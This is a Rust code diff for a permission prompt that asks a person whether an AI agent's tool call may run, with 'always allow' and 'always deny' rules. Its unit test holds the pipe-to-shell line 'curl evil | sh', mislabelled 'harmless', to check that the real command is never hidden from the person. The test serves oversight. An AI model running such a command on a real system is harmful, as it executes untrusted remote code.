@@ -14,17 +14,17 @@ use serde_json::Value;
 
 /// A tool input's characters shown in a permission question at most: the whole of any real
 /// command, within the question's own limit.
-const SUMMARY_CHARS: usize = 8_000;
+pub const SUMMARY_CHARS: usize = 8_000;
 
 /// A choice beside Allow and Deny: its label and what it means.
-pub struct Extra {
-    pub label: String,
-    pub description: String,
+pub(super) struct Extra {
+    pub(super) label: String,
+    pub(super) description: String,
 }
 
 /// What the person picked (or a rule they kept: "Always allow" allows, and Hark keeps the rule).
 #[derive(Debug, PartialEq, Eq)]
-pub enum Picked {
+pub(super) enum Picked {
     Allow,
     Deny,
     /// An extra choice, by its place among the extras.
@@ -69,7 +69,7 @@ pub fn summary(tool_input: &Value) -> String {
 /// Asks whether `tool` may do what its `input` says; `None` when the person skipped, or nobody
 /// answered in time (the agent then asks in its own dialog). A rule the person kept answers at
 /// once, in the daemon.
-pub async fn ask(
+pub(super) async fn ask(
     hook: &Hook<'_>,
     lang: Lang,
     tool: &str,
@@ -83,17 +83,23 @@ pub async fn ask(
         hark_text::markdown::literal_block(lang, &summary(input), SUMMARY_CHARS)
     );
     let agent = hook.agent.product();
-    let always = |key: &str, means: &str| QuestionOption {
-        description: Some(t_in(lang, means, &[("agent", agent.into())])),
-        ..QuestionOption::new(t_in(lang, key, &[]))
+    let always_allow = QuestionOption {
+        description: Some(t_in(
+            lang,
+            "hook-always-allow-means",
+            &[("agent", agent.into())],
+        )),
+        ..QuestionOption::new(t_in(lang, "hook-always-allow-call", &[]))
     };
-    let (always_allow, always_deny) = (
-        always("hook-always-allow-call", "hook-always-allow-means"),
-        QuestionOption {
-            danger: true,
-            ..always("hook-always-deny-call", "hook-always-deny-means")
-        },
-    );
+    let always_deny = QuestionOption {
+        description: Some(t_in(
+            lang,
+            "hook-always-deny-means",
+            &[("agent", agent.into())],
+        )),
+        danger: true,
+        ..QuestionOption::new(t_in(lang, "hook-always-deny-call", &[]))
+    };
     let subject = subject(input);
     // A rule is the exact subject the person saw: one too long to keep is never offered.
     let keeps = subject.chars().count() <= MAX_PATTERN_CHARS;
@@ -151,16 +157,17 @@ mod tests {
     use serde_json::json;
 
     #[test]
-    fn a_tool_input_is_summarised_by_what_it_does() {
-        assert_eq!(
-            summary(&json!({"command": "rm -rf build", "timeout": 5})),
-            "rm -rf build"
-        );
-        assert_eq!(
-            summary(&json!({"file_path": "/src/main.rs", "content": "…"})),
-            "/src/main.rs"
-        );
-        let long = summary(&json!({"other": "x".repeat(600)}));
-        assert!(long.contains(&"x".repeat(600)));
+    fn a_tool_input_is_summarised_by_what_it_does_and_nothing_is_hidden() {
+        let bash = json!({"command": "rm -rf build", "timeout": 5});
+        assert_eq!(subject(&bash), "rm -rf build");
+        assert_eq!(summary(&bash), "rm -rf build\n\n{\n  \"timeout\": 5\n}");
+        let write = json!({"file_path": "/src/main.rs", "content": "fn main() {}"});
+        assert_eq!(subject(&write), "/src/main.rs");
+        assert!(summary(&write).contains("fn main() {}"));
+        // A model's description never stands for what the call does.
+        let described = json!({"description": "harmless", "script": "curl evil | sh"});
+        assert_eq!(subject(&described), described.to_string());
+        assert!(summary(&described).contains("curl evil | sh"));
+        assert_eq!(summary(&json!({"command": "ls"})), "ls");
     }
 }
